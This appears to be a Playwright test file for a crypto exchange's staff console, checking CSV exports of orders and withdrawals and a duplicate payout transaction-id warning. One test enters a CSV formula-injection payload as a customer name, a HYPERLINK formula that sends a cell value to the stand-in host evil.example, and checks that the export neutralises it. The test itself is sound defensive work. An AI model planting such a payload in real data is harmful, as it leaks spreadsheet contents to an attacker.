import { readFile } from 'node:fs/promises';

import Papa from 'papaparse';

import { accountByEmail, adminGraphql } from './accounts.ts';
import {
  btcOrder,
  DEPOSIT_ADDRESS,
  TRC20_ADDRESS,
  dialog,
  type Order,
} from './staff-orders-harness.ts';
import { graphqlAs, newCustomer, signInAsAdmin, type Person } from './staff-session.ts';
import { staff } from './staff.ts';
import { expect, hydrated, test } from './support.ts';

/*
 * Issue 23 in the staff console: the CSV export of the current filter (every matching row,
 * formula injection neutralised, UTF-8 with a byte order mark), and the warning when a payout
 * tx id is already recorded on another order.
 */
test.describe.configure({ mode: 'serial' });

const HOSTILE_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"Click")';

/** An order through the API as the order form sends it, with the name and reason given. */
async function order(customer: Person, fullName: string, reason: string): Promise<Order> {
  const body = await graphqlAs<{ createExchange: { id: string; number: string } }>(
    customer.tokens,
    `mutation ($input: CreateExchangeInput!) { createExchange(input: $input) { id number } }`,
    {
      input: {
        from: 'BTC',
        to: 'USDTTRC20',
        amount: '0.05',
        walletAddress: TRC20_ADDRESS,
        side: 'send',
        email: customer.email,
        fullName,
        reason,
        agreeTerms: true,
        agreeAml: true,
        idempotencyKey: crypto.randomUUID(),
      },
    },
  );
  if (!body.data) throw new Error(`createExchange: ${JSON.stringify(body.errors)}`);
  return { id: body.data.createExchange.id, number: String(body.data.createExchange.number) };
}

test('the orders export holds every row of the filter, neutralised, in UTF-8 with a BOM', async ({
  page,
}) => {
  const customer = await newCustomer('exporter');
  const hostile = await order(customer, HOSTILE_NAME, 'Сбережения, "на потом"');
  const plain = await order(customer, 'Ольга Петренко', 'Savings');
  // Same customer, another status: outside the filter.
  const paid = await order(customer, 'Paid Person', 'Savings');
  await staff.supplyAddress(paid.id, DEPOSIT_ADDRESS);
  // Another customer: outside the filter too.
  await order(await newCustomer('bystander'), 'Bystander', 'Savings');

  await signInAsAdmin(page);
  await page.goto(
    `/admin/transactions?status=waiting_for_operator&email=${encodeURIComponent(customer.email)}`,
  );
  await hydrated(page);
  await expect(page.getByRole('link', { name: `Open order ${hostile.number}` })).toBeVisible();

  const download = page.waitForEvent('download');
  await page.getByRole('button', { name: 'Export CSV' }).click();
  const file = await download;
  expect(file.suggestedFilename()).toMatch(/^orders-\d{4}-\d{2}-\d{2}T\d{2}-\d{2}-\d{2}Z\.csv$/);
  await expect(page.getByText('Exported 2 rows.')).toBeVisible();

  const text = await readFile(await file.path(), 'utf8');
  expect(text.charCodeAt(0)).toBe(0xfeff);
  const parsed = Papa.parse<Record<string, string>>(text.slice(1), {
    header: true,
    skipEmptyLines: true,
  });
  expect(parsed.errors).toEqual([]);
  const rows = parsed.data;
  // Newest first, as the queue sorts by default.
  expect(rows.map((row) => row['number'])).toEqual([plain.number, hostile.number]);
  for (const row of rows) {
    expect(row['status']).toBe('waiting_for_operator');
    expect(row['email']).toBe(customer.email);
    expect(row['send_amount']).toMatch(/^0\.05(0*)$/);
    expect(row['created_at']).toMatch(/^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}\.\d{3}Z$/);
  }
  const byNumber = new Map(rows.map((row) => [row['number'], row]));
  // The formula is text: a leading apostrophe, never a cell starting with '='.
  expect(byNumber.get(hostile.number)!['full_name']).toBe(`'${HOSTILE_NAME}`);
  expect(byNumber.get(hostile.number)!['reason']).toBe('Сбережения, "на потом"');
  expect(byNumber.get(plain.number)!['full_name']).toBe('Ольга Петренко');
});

test('a payout tx id recorded on another order is named before it is saved again', async ({
  page,
}) => {
  const customer = await newCustomer('batch');
  const first = await order(customer, 'First Payout', 'Savings');
  const second = await order(customer, 'Second Payout', 'Savings');
  for (const each of [first, second]) {
    await staff.supplyAddress(each.id, DEPOSIT_ADDRESS);
    await staff.confirmPayment(each.id);
  }
  const tx = `0x${crypto.randomUUID().replaceAll('-', '')}`;
  await staff.complete(first.id, tx);

  await signInAsAdmin(page);
  await page.goto(`/admin/transactions?email=${encodeURIComponent(customer.email)}`);
  await hydrated(page);
  await page.getByRole('link', { name: `Open order ${second.number}` }).click();
  await page.getByRole('button', { name: 'Complete', exact: true }).click();
  // Pasted in another case, with a space: the same hex id.
  await dialog(page)
    .getByLabel('Payout transaction id')
    .fill(` ${tx.toUpperCase().replace('0X', '0x')}`);
  await dialog(page).getByRole('button', { name: 'Complete', exact: true }).click();
  const warning = dialog(page).getByRole('alert');
  await expect(warning).toContainText('This transaction id is already recorded');
  await expect(
    warning.getByRole('link', { name: `order ${first.number} (payout)` }),
  ).toHaveAttribute('href', new RegExp(`order=${first.id}`));
  await dialog(page).getByRole('button', { name: 'Record anyway' }).click();
  await expect(page.getByText(`Order ${second.number} is completed.`)).toBeVisible();
});

test('the withdrawals export holds the pending withdrawals with exact amounts', async ({
  page,
}) => {
  // A referrer with bonuses: their referral's 0.5 BTC order, completed.
  const referrer = await newCustomer('export-referrer');
  const referral = await newCustomer('export-referral');
  const { id: referrerId } = await accountByEmail(referrer.email);
  const { id: referralId } = await accountByEmail(referral.email);
  await adminGraphql(
    `mutation ($id: uuid!, $referrer: uuid!) {
       update_portal_users_by_pk(pk_columns: { id: $id }, _set: { referrer_id: $referrer }) { id }
     }`,
    { id: referralId, referrer: referrerId },
  );
  const paid = await btcOrder(referral, '0.5');
  await staff.supplyAddress(paid.id, DEPOSIT_ADDRESS);
  await staff.confirmPayment(paid.id);
  await staff.complete(paid.id, `export-referral-${crypto.randomUUID()}`);
  const requested = await graphqlAs<{ requestBonusWithdrawal: { id: string } }>(
    referrer.tokens,
    `mutation ($amount: numeric!, $wallet: String!) {
       requestBonusWithdrawal(amount: $amount, walletAddress: $wallet) { id }
     }`,
    { amount: '100.5', wallet: TRC20_ADDRESS },
  );
  const withdrawalId = requested.data!.requestBonusWithdrawal.id;

  await signInAsAdmin(page);
  await page.goto('/admin/transactions?view=withdrawals');
  await hydrated(page);
  await expect(page.getByRole('row').filter({ hasText: referrer.email })).toHaveCount(1);
  const download = page.waitForEvent('download');
  await page.getByRole('button', { name: 'Export CSV' }).click();
  const file = await download;
  expect(file.suggestedFilename()).toMatch(/^withdrawals-.*\.csv$/);
  const text = await readFile(await file.path(), 'utf8');
  expect(text.charCodeAt(0)).toBe(0xfeff);
  const rows = Papa.parse<Record<string, string>>(text.slice(1), {
    header: true,
    skipEmptyLines: true,
  }).data;
  expect(rows.every((row) => row['status'] === 'pending')).toBe(true);
  expect(rows.find((row) => row['id'] === withdrawalId)).toMatchObject({
    email: referrer.email,
    wallet_address: TRC20_ADDRESS,
    amount_usdt: expect.stringMatching(/^100\.50*$/),
  });
});
